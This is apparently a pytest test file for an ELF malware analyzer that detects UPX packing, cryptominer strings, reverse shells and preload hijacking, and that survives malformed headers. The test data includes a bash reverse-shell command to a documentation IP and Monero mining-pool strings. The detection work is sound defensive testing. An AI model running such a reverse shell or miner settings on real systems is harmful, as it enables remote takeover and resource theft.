"""ELF analysis: exact facts for images built in code and for this machine's Python binary,
findings for UPX, miners, reverse shells and preload hijacking, and hostile headers."""

from __future__ import annotations

import struct
import sys
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from inspector.analyzers.binary_common import BinaryLimits
from inspector.analyzers.elf import ElfAnalyzer
from inspector.model import ArtifactType
from tests.binaries.elf_builder import EM_386, EM_AARCH64, EM_ARM, ET_DYN, build_elf
from tests.binaries.payloads import context, payload
from tests.timing import finishes_within_cpu

ANALYZER = ElfAnalyzer()
MONERO_WALLET = "4" + "8" + "Ab3" * 31  # 95 base58 characters, the shape of a Monero address


def analyze(data: bytes, analyzer: ElfAnalyzer = ANALYZER, **ctx: float):
    return analyzer.analyze(payload(data, ArtifactType.ELF), context(**ctx))


def ids(out) -> set[str]:
    return {f.id for f in out.findings}


def test_a_dynamic_x86_64_executable_with_symbols() -> None:
    out = analyze(build_elf(interpreter="/lib64/ld-linux-x86-64.so.2", dynamic=True, symtab=True).data)
    facts = out.facts.elf
    assert facts.model_dump() == {
        "architecture": "x64", "bits": 64, "endianness": "little", "elf_type": "EXEC", "static": False,
        "stripped": False, "interpreter": "/lib64/ld-linux-x86-64.so.2", "packers": [], "notable_strings": [],
        "parse_warnings": [],
    }
    assert out.findings == []


def test_a_static_stripped_big_endian_arm_executable() -> None:
    facts = analyze(build_elf(bits=32, endian="big", machine=EM_ARM).data).facts.elf
    assert (facts.architecture, facts.bits, facts.endianness, facts.elf_type) == ("ARM", 32, "big", "EXEC")
    assert (facts.static, facts.stripped, facts.interpreter) == (True, True, None)


@pytest.mark.parametrize(("machine", "bits", "arch"), [(EM_386, 32, "x86"), (EM_AARCH64, 64, "AArch64")])
def test_architecture_names(machine: int, bits: int, arch: str) -> None:
    facts = analyze(build_elf(bits=bits, machine=machine, elf_type=ET_DYN).data).facts.elf
    assert (facts.architecture, facts.bits, facts.elf_type) == (arch, bits, "DYN")


def test_this_machines_python_binary_is_read_as_a_dynamic_elf() -> None:
    path = Path(sys.executable).resolve()
    data = path.read_bytes()
    if data[:4] != b"\x7fELF":
        pytest.skip(f"{path} is not an ELF file on this platform")
    out = analyze(data)
    facts = out.facts.elf
    assert facts.elf_type in ("EXEC", "DYN") and facts.bits in (32, 64)
    assert facts.static is False and facts.interpreter and facts.interpreter.startswith("/")
    assert facts.packers == [] and "elf.miner_strings" not in ids(out)


def test_upx_packed_elf() -> None:
    out = analyze(build_elf(upx=True).data)
    assert out.facts.elf.packers == ["UPX"]
    assert out.facts.elf.stripped is True  # UPX drops the section headers
    assert ids(out) == {"elf.packer.upx"}


def test_upx_section_names_without_the_marker() -> None:
    out = analyze(build_elf(extra_sections=[("UPX1", b"\x00" * 16)]).data)
    assert out.facts.elf.packers == ["UPX"]


@pytest.mark.parametrize("evidence", [
    b"stratum+tcp://xmr.pool.example.invalid:3333",
    b"pool.supportxmr.com:443",
    b"gulf.moneroocean.stream.minexmr.com",
    b"--donate-level=1",
    MONERO_WALLET.encode(),
])
def test_miner_evidence(evidence: bytes) -> None:
    out = analyze(build_elf(strings=[b"usage: worker", evidence]).data)
    assert ids(out) == {"elf.miner_strings"}
    [finding] = out.findings
    assert finding.attack == ["T1496"] and finding.score == 500
    assert out.facts.elf.notable_strings


def test_many_miner_strings_are_one_finding_with_a_count() -> None:
    out = analyze(build_elf(strings=[b"stratum+tcp://a.example.invalid:1", b"stratum+ssl://b.example.invalid:2",
                                     b"--donate-level 0", b"xmrig"]).data)
    [finding] = out.findings
    assert finding.count == 4 and finding.score == 500
    assert out.facts.elf.notable_strings == ["stratum+tcp://a.example.invalid:1", "stratum+ssl://b.example.invalid:2",
                                             "--donate-level 0", "xmrig"]


def test_reverse_shell_and_preload_strings() -> None:
    out = analyze(build_elf(strings=[b"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", b"/etc/ld.so.preload"]).data)
    assert ids(out) == {"elf.reverse_shell", "elf.preload_hijack"}
    assert "/dev/tcp/203.0.113.7/4444" in out.facts.elf.notable_strings


def test_ordinary_strings_are_not_evidence() -> None:
    strings = [b"Usage: tool [options]", b"/usr/lib/x86_64-linux-gnu", b"GLIBC_2.34", b"4" * 95, b"bc1short"]
    out = analyze(build_elf(strings=strings).data)
    assert out.findings == [] and out.facts.elf.notable_strings == []


def test_notable_strings_are_capped() -> None:
    analyzer = ElfAnalyzer(BinaryLimits(max_notable_strings=2))
    strings = [f"stratum+tcp://p{i}.example.invalid:3333".encode() for i in range(10)]
    out = analyze(build_elf(strings=strings).data, analyzer=analyzer)
    assert len(out.facts.elf.notable_strings) == 2


def test_strings_past_the_scan_limit_are_not_read() -> None:
    analyzer = ElfAnalyzer(BinaryLimits(max_string_scan_bytes=1024))
    out = analyze(build_elf(text=b"\x90" * 4096, strings=[b"stratum+tcp://late.example.invalid:1"]).data, analyzer=analyzer)
    assert out.findings == []


def test_an_expired_deadline_skips_the_string_scan_with_an_error() -> None:
    out = analyze(build_elf(strings=[b"xmrig"]).data, deadline_s=0.0)
    assert out.findings == [] and [kind for kind, _ in out.errors] == ["limit_deadline"]
    assert out.facts.elf.architecture == "x64"


# --- hostile headers ----------------------------------------------------------------------------

SAMPLE = build_elf(interpreter="/lib/ld-musl-x86_64.so.1", dynamic=True, symtab=True, strings=[b"hello"])


def test_truncated_elf_never_raises() -> None:
    for length in range(0, len(SAMPLE.data), 5):
        out = analyze(SAMPLE.data[:length])
        assert out.facts is not None and out.facts.elf is not None


def test_unparseable_headers_are_a_malformed_finding() -> None:
    out = analyze(b"\x7fELF\x09\x09\x01" + b"\x00" * 9)  # class and data bytes out of range
    assert ids(out) == {"elf.malformed"}
    assert out.facts.elf.architecture == "unknown" and out.facts.elf.parse_warnings


def test_huge_program_and_section_counts_are_not_walked() -> None:
    data = bytearray(SAMPLE.data)
    struct.pack_into("<H", data, SAMPLE.layout.e_phnum, 0xFFF0)  # 0xFFFF means "see section 0"
    struct.pack_into("<H", data, SAMPLE.layout.e_shnum, 0xFFFE)
    with finishes_within_cpu():
        out = analyze(bytes(data))
    assert any("program headers" in w for w in out.facts.elf.parse_warnings)
    assert any("section headers" in w for w in out.facts.elf.parse_warnings)


def test_an_extended_program_header_count_in_section_zero_is_bounded() -> None:
    data = bytearray(SAMPLE.data)
    struct.pack_into("<H", data, SAMPLE.layout.e_phnum, 0xFFFF)  # PN_XNUM: the count is in section 0
    struct.pack_into("<I", data, SAMPLE.layout.section_headers + 44, 0x7FFFFFFF)  # sh_info of section 0
    with finishes_within_cpu():
        out = analyze(bytes(data))
    assert "2147483647 program headers, more than 256: not read" in out.facts.elf.parse_warnings


def test_section_headers_past_the_end_are_a_warning() -> None:
    data = bytearray(SAMPLE.data)
    struct.pack_into("<Q", data, 40, 0x7FFFFFFF0000)  # e_shoff
    out = analyze(bytes(data))
    assert out.facts.elf.interpreter == "/lib/ld-musl-x86_64.so.1"
    assert out.facts.elf.parse_warnings


@settings(max_examples=150, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.tuples(st.integers(min_value=0, max_value=len(SAMPLE.data) - 1),
                          st.integers(min_value=0, max_value=255)), min_size=1, max_size=16))
def test_mutated_elf_bytes_never_crash_or_hang(mutations: list[tuple[int, int]]) -> None:
    data = bytearray(SAMPLE.data)
    for position, value in mutations:
        data[position] = value
    with finishes_within_cpu():
        out = analyze(bytes(data))
    assert out.facts is not None and out.facts.elf is not None
